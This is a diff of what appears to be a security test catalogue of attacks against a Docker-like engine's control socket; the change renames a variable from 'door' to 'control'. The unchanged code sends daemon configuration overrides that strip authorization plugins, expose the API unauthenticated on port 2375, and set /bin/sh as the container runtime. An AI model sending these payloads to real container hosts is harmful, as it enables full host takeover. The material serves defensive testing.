@@ -271,20 +271,20 @@ os.environ["DOCKER_HOST"] = "unix:///tmp/own.sock\"""",
     Attack(
         12,
         "the engine's configuration changed",
-        "the door for daemon.json may take more than it should",
+        "the control socket for daemon.json may take more than it should",
         """\
 import json, os, socket
 for options in ({"authorization-plugins": []}, {"hosts": ["tcp://0.0.0.0:2375"]}, {"data-root": "/tmp/x"},
                 {"default-runtime": "mine", "runtimes": {"mine": {"path": "/bin/sh"}}}, {"Debug": True},
                 {"authorization-Plugins": []}, {"builder": {"Entitlements": {"network-host": True}}}, []):
-    with socket.socket(socket.AF_UNIX) as door:
+    with socket.socket(socket.AF_UNIX) as control:
         try:
-            door.connect(os.environ.get("DOCKBOOK_CONTROL", "/run/dockbook/kernel/control.sock"))
-            door.sendall(json.dumps({"daemon": options}).encode() + b"\\n")
-            print(options, door.recv(1000))
+            control.connect(os.environ.get("DOCKBOOK_CONTROL", "/run/dockbook/kernel/control.sock"))
+            control.sendall(json.dumps({"daemon": options}).encode() + b"\\n")
+            print(options, control.recv(1000))
         except OSError as error: print(error)""",
         told="takes no authorization-plugins",
-        stock="about our own engine's door",
+        stock="about our own engine's control socket",
     ),
     Attack(
         12,
